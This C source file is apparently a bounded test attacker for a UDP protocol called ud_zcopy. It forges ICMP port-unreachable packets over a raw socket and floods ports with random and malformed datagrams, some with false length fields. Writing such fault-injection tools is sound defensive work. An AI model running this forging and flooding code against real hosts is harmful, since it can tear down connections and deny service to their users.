/*
 * An attacker of ud_zcopy over UDP, for the fault tier's attack cases (tests/fault/attack): it
 * sends what a stranger on the network can send, bounded in count and time, to the addresses
 * it is given (the test's own namespaces), and prints what it sent.
 *
 *   udz_attack icmp --victim IP:PORT --peer IP:PORT [--count N] [--seconds S]
 *       ICMP port-unreachables to the victim, each quoting a UDP datagram from the victim's
 *       socket to its peer's (what the kernel would send if the peer's socket were closed):
 *       forged, since the peer is alive. A raw socket: needs CAP_NET_RAW.
 *   udz_attack flood --to IP --ports P,P,... [--count N] [--seconds S] [--seed X]
 *       datagrams at every port in turn: a third random bytes of random length, a third with
 *       ud_zcopy's magic and version and random everything else, a third with a header whose
 *       length lies about the datagram's (longer or shorter than what follows).
 * Ends with "udz_attack: sent N" (and the first error, if sending failed).
 */
#include "udz_proto.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

static int parse_ep(const char *s, struct sockaddr_in *sin)
{
    char host[64];
    const char *colon = strrchr(s, ':');

    if ((colon == NULL) || ((size_t)(colon - s) >= sizeof(host))) {
        return -1;
    }
    memcpy(host, s, colon - s);
    host[colon - s] = '\0';
    memset(sin, 0, sizeof(*sin));
    sin->sin_family = AF_INET;
    sin->sin_port   = htons((uint16_t)atoi(colon + 1));
    return (inet_pton(AF_INET, host, &sin->sin_addr) == 1) ? 0 : -1;
}

static uint16_t csum(const void *data, size_t len)
{
    const uint8_t *p = data;
    uint32_t sum = 0;
    size_t i;

    for (i = 0; i + 1 < len; i += 2) {
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    }
    if (len & 1) {
        sum += (uint32_t)p[len - 1] << 8;
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return htons((uint16_t)~sum);
}

/* xorshift64*: reproducible from --seed */
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;
static uint64_t rnd(void)
{
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return rng_state * 0x2545f4914f6cdd1dull;
}

static int attack_icmp(const struct sockaddr_in *victim, const struct sockaddr_in *peer,
                       long count, double seconds)
{
    struct {
        struct icmphdr icmp;
        struct iphdr   ip;      /* the quoted datagram: victim -> peer */
        struct udphdr  udp;
        udz_hdr_t      udz;     /* its first bytes, as a kernel quotes them */
    } __attribute__((packed)) pkt;
    double end = now() + seconds, gap = seconds / (double)count;
    long sent = 0;
    int fd, err = 0;

    fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) {
        perror("udz_attack: raw ICMP socket");
        return 1;
    }
    while ((sent < count) && (now() < end)) {
        memset(&pkt, 0, sizeof(pkt));
        pkt.icmp.type        = ICMP_DEST_UNREACH;
        pkt.icmp.code        = ICMP_PORT_UNREACH;
        pkt.ip.version       = 4;
        pkt.ip.ihl           = 5;
        pkt.ip.ttl           = 64;
        pkt.ip.protocol      = IPPROTO_UDP;
        pkt.ip.id            = htons((uint16_t)rnd());
        pkt.ip.tot_len       = htons(sizeof(pkt.ip) + sizeof(pkt.udp) + sizeof(pkt.udz));
        pkt.ip.saddr         = victim->sin_addr.s_addr;
        pkt.ip.daddr         = peer->sin_addr.s_addr;
        pkt.ip.check         = csum(&pkt.ip, sizeof(pkt.ip));
        pkt.udp.source       = victim->sin_port;
        pkt.udp.dest         = peer->sin_port;
        pkt.udp.len          = htons(sizeof(pkt.udp) + sizeof(pkt.udz));
        pkt.udz.magic        = UDZ_MAGIC;
        pkt.udz.version      = UDZ_VERSION;
        pkt.udz.type         = UDZ_T_AM;
        pkt.icmp.checksum    = csum(&pkt, sizeof(pkt));
        if (sendto(fd, &pkt, sizeof(pkt), 0, (const struct sockaddr*)victim,
                   sizeof(*victim)) < 0) {
            err = errno;
            break;
        }
        ++sent;
        if (gap > 0) {
            usleep((useconds_t)(gap * 1e6));
        }
    }
    close(fd);
    printf("udz_attack: sent %ld ICMP port-unreachables%s%s\n", sent, err ? ": " : "",
           err ? strerror(err) : "");
    return err ? 1 : 0;
}

static int attack_flood(const struct sockaddr_in *to, const int *ports, int nports, long count,
                        double seconds)
{
    uint8_t buf[2048];
    struct sockaddr_in dst = *to;
    udz_hdr_t h;
    double end = now() + seconds;
    long sent = 0, failed = 0;
    size_t len, i;
    int fd;

    fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) {
        perror("udz_attack: UDP socket");
        return 1;
    }
    while ((sent + failed < count) && (now() < end)) {
        uint64_t r = rnd();

        dst.sin_port = htons((uint16_t)ports[(sent + failed) % nports]);
        len = (size_t)(rnd() % 1473);
        for (i = 0; i < len; i += 8) {
            uint64_t v = rnd();
            memcpy(buf + i, &v, (len - i < 8) ? len - i : 8);
        }
        if ((r % 3 != 0) && (len >= sizeof(h))) {
            memcpy(&h, buf, sizeof(h));
            h.magic   = UDZ_MAGIC;
            h.version = UDZ_VERSION;
            h.type    = (uint8_t)(rnd() % 18);
            h.len     = (uint16_t)((r % 3 == 1) ? len - sizeof(h) :   /* honest length */
                                   rnd() % 65536);                    /* a lie */
            memcpy(buf, &h, sizeof(h));
        }
        if (sendto(fd, buf, len, 0, (const struct sockaddr*)&dst, sizeof(dst)) < 0) {
            ++failed;   /* a full socket buffer, an ICMP error of an earlier one */
            if (errno == ENOBUFS || errno == EAGAIN) {
                usleep(100);
            }
            continue;
        }
        ++sent;
    }
    close(fd);
    printf("udz_attack: sent %ld datagrams to %d ports (%ld sends failed)\n", sent, nports,
           failed);
    return 0;
}

static void usage(void)
{
    fprintf(stderr, "usage: udz_attack icmp --victim IP:PORT --peer IP:PORT [--count N] "
                    "[--seconds S]\n"
                    "       udz_attack flood --to IP --ports P,P,... [--count N] "
                    "[--seconds S] [--seed X]\n");
    exit(2);
}

int main(int argc, char **argv)
{
    struct sockaddr_in victim, peer, to;
    int have_victim = 0, have_peer = 0, have_to = 0, nports = 0, ports[256], i;
    long count = 1000;
    double seconds = 10;
    char *tok, *save;

    if (argc < 2) {
        usage();
    }
    for (i = 2; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "--victim")) {
            have_victim = parse_ep(argv[i + 1], &victim) == 0;
        } else if (!strcmp(argv[i], "--peer")) {
            have_peer = parse_ep(argv[i + 1], &peer) == 0;
        } else if (!strcmp(argv[i], "--to")) {
            memset(&to, 0, sizeof(to));
            to.sin_family = AF_INET;
            have_to = inet_pton(AF_INET, argv[i + 1], &to.sin_addr) == 1;
        } else if (!strcmp(argv[i], "--ports")) {
            for (tok = strtok_r(argv[i + 1], ",", &save); (tok != NULL) && (nports < 256);
                 tok = strtok_r(NULL, ",", &save)) {
                ports[nports++] = atoi(tok);
            }
        } else if (!strcmp(argv[i], "--count")) {
            count = atol(argv[i + 1]);
        } else if (!strcmp(argv[i], "--seconds")) {
            seconds = atof(argv[i + 1]);
        } else if (!strcmp(argv[i], "--seed")) {
            rng_state = strtoull(argv[i + 1], NULL, 0) | 1;
        } else {
            usage();
        }
    }
    if ((count <= 0) || (seconds <= 0) || (seconds > 600)) {
        usage();   /* bounded in count and time */
    }
    if (!strcmp(argv[1], "icmp") && have_victim && have_peer) {
        return attack_icmp(&victim, &peer, count, seconds);
    }
    if (!strcmp(argv[1], "flood") && have_to && (nports > 0)) {
        return attack_flood(&to, ports, nports, count, seconds);
    }
    usage();
    return 2;
}
